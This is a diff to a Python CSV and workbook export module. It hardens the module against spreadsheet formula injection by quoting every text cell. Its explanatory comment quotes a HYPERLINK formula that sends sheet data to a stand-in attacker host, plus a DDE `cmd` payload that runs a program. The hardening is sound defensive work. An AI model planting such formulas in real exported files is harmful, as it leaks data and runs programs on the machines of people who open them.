@@ -4,7 +4,8 @@ Every CSV and workbook the product writes goes through here. A spreadsheet runs 
 starts with = + - @ (some also after a tab or a carriage return) as a formula: a name like
 `=HYPERLINK("http://evil.example/?"&A1)` leaks the sheet, `+cmd|' /C calc'!A0` runs a program.
 As OWASP advises, such a text cell is written with a leading apostrophe, which spreadsheets
-read as "this is text"; the csv module quotes cells holding separators, quotes or line breaks.
+read as "this is text", and every text cell is quoted (inner quotes doubled), so no separator
+inside it, "," or the ";" of many locales, can start a new cell.
 In a workbook the text is kept exactly, in a string cell marked with Excel's own apostrophe
 (quotePrefix), so it stays text even when someone edits it.
 
@@ -72,9 +73,11 @@ def _csv_cell(value: Any) -> Any:
 
 
 def csv_file(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
-    """A CSV file (UTF-8, CRLF) of the header and rows, formula-like text written as text."""
+    """A CSV file (UTF-8, CRLF) of the header and rows, text quoted and never a formula."""
     buffer = io.StringIO(newline="")
-    writer = csv.writer(buffer, lineterminator="\r\n")
+    # Text is always quoted: Excel in many locales splits on ";", and would otherwise cut
+    # "x;=cmd|..." into two cells, the second a formula. Numbers stay bare.
+    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
     writer.writerow([_csv_cell(name) for name in header])
     writer.writerows([_csv_cell(value) for value in row] for row in rows)
     # A byte-order mark makes Excel read the file as UTF-8; the importer skips it.
